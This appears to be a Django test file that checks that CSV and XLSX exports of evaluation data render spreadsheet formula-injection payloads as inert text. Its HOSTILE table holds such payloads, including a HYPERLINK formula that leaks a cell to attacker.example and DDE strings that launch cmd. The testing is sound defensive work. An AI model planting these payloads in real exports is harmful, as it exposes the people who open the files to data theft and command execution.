"""Every export neutralises spreadsheet formulas: hostile names, titles and partners come out as
inert text in each CSV and XLSX file, and numbers stay numbers."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from evaluations import services
from evaluations.models import Activity, CycleStatus
from submissions.models import Obligation
from tests import factories
from tests.evaluations.grid import (
    level,
    make_cycle,
    make_evaluation,
    make_methodology,
    make_scored,
    part,
)
from tests.registry.dashboard_network import at, sc_centres, submit, workplan_request

pytestmark = pytest.mark.django_db

# One hostile value per trigger; each export below is fed several of them.
HOSTILE = {
    "equals": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "space": "  =1+1",
    "fullwidth": "\uff1d1+1",
}


def read_csv(response):
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def xlsx_cells(response):
    """Return {value: cell} of every cell of every sheet, after checking no formula is stored."""
    content = response.getvalue()  # a streamed body reads once
    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    found[cell.value] = cell
    return found


def assert_inert_in_csv(rows, values):
    cells = {cell for row in rows for cell in row}
    for value in values:
        assert "'" + value in cells, repr(value)
        assert value not in cells, repr(value)


def assert_inert_in_xlsx(cells, values):
    for value in values:
        # XML keeps a carriage return as a line feed: the text is otherwise whole.
        cell = cells.get(value) or cells.get(value.replace("\r", "\n"))
        assert cell is not None, repr(value)
        assert cell.data_type == "s", repr(value)
        assert cell.quotePrefix, repr(value)


@pytest.fixture
def hostile_network():
    region = factories.RegionFactory(code="XX", name=HOSTILE["at"])
    (centre,) = sc_centres(1, region=region, prefix="x")
    centre.name = HOSTILE["equals"]
    centre.save()
    (plain,) = sc_centres(1, prefix="Plain centre")
    request = workplan_request(title=HOSTILE["plus"])
    submit(Obligation.objects.get(request=request, centre=centre), at(2015, 9, 1))
    return {"centre": centre, "plain": plain, "request": request}


# Each dashboard export, and the hostile values of `hostile_network` it shows.
DASHBOARD_EXPORTS = {
    "dashboard:overview_export": [HOSTILE["plus"]],
    "dashboard:matrix_export": [HOSTILE["equals"], HOSTILE["at"]],
}


def dashboard_export(client, view, file_format):
    return client.get(reverse(view, args=[file_format]), {"as_at": "2017-01-31"})


@pytest.mark.parametrize("view", DASHBOARD_EXPORTS)
def test_the_dashboard_csv_exports_quote_every_formula(client, staff, hostile_network, view):
    client.force_login(staff)

    rows = read_csv(dashboard_export(client, view, "csv"))

    assert_inert_in_csv(rows, DASHBOARD_EXPORTS[view])


def test_the_overview_csv_keeps_numbers_as_numbers(client, staff, hostile_network):
    client.force_login(staff)

    header, line = read_csv(dashboard_export(client, "dashboard:overview_export", "csv"))

    row = dict(zip(header, line, strict=True))
    assert (row["Expected"], row["Submitted on time"], row["Due date"]) == ("2", "1", "2015-09-30")


@pytest.mark.parametrize("view", DASHBOARD_EXPORTS)
def test_the_dashboard_xlsx_exports_hold_text_not_formulas(client, staff, hostile_network, view):
    client.force_login(staff)

    cells = xlsx_cells(dashboard_export(client, view, "xlsx"))

    assert_inert_in_xlsx(cells, DASHBOARD_EXPORTS[view])
    assert not cells["Plain centre 0001" if "matrix" in view else "Decision"].quotePrefix


@pytest.fixture
def hostile_cycle(centre_a, centre_b):
    methodology = make_methodology()
    criterion = methodology.criteria.get(code="c")
    criterion.name, criterion.sources = HOSTILE["tab"], HOSTILE["minus"]
    criterion.save()
    centre_a.name = HOSTILE["cr"]
    centre_a.save()
    centre_b.name = HOSTILE["fullwidth"]
    centre_b.save()
    previous = make_cycle(methodology, 2015)
    cycle = make_cycle(methodology)
    make_scored(
        previous,
        centre_a,
        levels={part(methodology, "a"): level(methodology, "a", 4)},
    )
    make_scored(
        cycle,
        centre_a,
        levels={part(methodology, "a"): level(methodology, "a", 1)},
    )
    make_evaluation(cycle, centre_b)
    return cycle


def test_the_cycle_workbook_holds_text_not_formulas_and_a_fall_as_a_number(
    client, staff, hostile_cycle
):
    client.force_login(staff)

    response = client.get(reverse("evaluations:cycle_export_xlsx", args=[hostile_cycle.pk]))

    cells = xlsx_cells(response)
    assert_inert_in_xlsx(
        cells, [HOSTILE["cr"], HOSTILE["fullwidth"], HOSTILE["tab"], HOSTILE["minus"]]
    )
    sheet = load_workbook(io.BytesIO(response.getvalue()))["2019"]
    header = [c.value for c in sheet[4]]
    change = sheet.cell(row=5, column=header.index("Change (points of percentage)") + 1)
    assert (change.value, change.data_type) == (-9.1, "n")  # 3.0 % against 12.1 % in 2015


def test_the_cycle_document_accepts_the_same_names(client, staff, hostile_cycle):
    client.force_login(staff)

    response = client.get(reverse("evaluations:cycle_export_docx", args=[hostile_cycle.pk]))

    assert response.status_code == 200 and response.getvalue()[:2] == b"PK"


def test_the_mercury_workbook_holds_text_not_formulas(client, staff, centre_a):
    centre_a.name = HOSTILE["space"]
    centre_a.save()
    country = factories.PartyFactory(code="QQ", name=HOSTILE["at"])
    activity = Activity.objects.create(
        centre=centre_a,
        title=HOSTILE["equals"],
        kind="workshop",
        start_date=dt.date(2016, 2, 1),
        partners=HOSTILE["plus"],
        funding_source=HOSTILE["minus"],
        mercury_related=True,
    )
    activity.countries_benefited.add(country)
    client.force_login(staff)

    response = client.get(
        reverse("evaluations:mercury_export"), {"start": "2015-01-01", "end": "2016-12-31"}
    )

    cells = xlsx_cells(response)
    assert_inert_in_xlsx(
        cells,
        [HOSTILE["space"], HOSTILE["equals"], HOSTILE["plus"], HOSTILE["minus"], HOSTILE["at"]],
    )
    assert cells[dt.datetime(2016, 2, 1)].is_date  # noqa: DTZ001 (XLSX dates are naive)


def test_a_control_character_in_a_name_does_not_break_a_workbook(
    client, staff, centre_a, hostile_cycle
):
    centre_a.name = "Centre\x01with a bell\x07"
    centre_a.save()
    client.force_login(staff)

    xlsx = client.get(reverse("evaluations:cycle_export_xlsx", args=[hostile_cycle.pk]))
    docx = client.get(reverse("evaluations:cycle_export_docx", args=[hostile_cycle.pk]))

    assert "Centre\ufffdwith a bell\ufffd" in xlsx_cells(xlsx)
    assert docx.status_code == 200


def test_a_published_cycle_export_is_as_safe_for_the_bureau(client, bureau_member, hostile_cycle):
    services.cycle_set_status(cycle=hostile_cycle, status=CycleStatus.CLOSED)
    services.cycle_set_status(
        cycle=hostile_cycle, status=CycleStatus.PUBLISHED, acknowledge_incomplete=True
    )
    client.force_login(bureau_member)

    cells = xlsx_cells(
        client.get(reverse("evaluations:cycle_export_xlsx", args=[hostile_cycle.pk]))
    )

    assert_inert_in_xlsx(cells, [HOSTILE["cr"], HOSTILE["fullwidth"]])
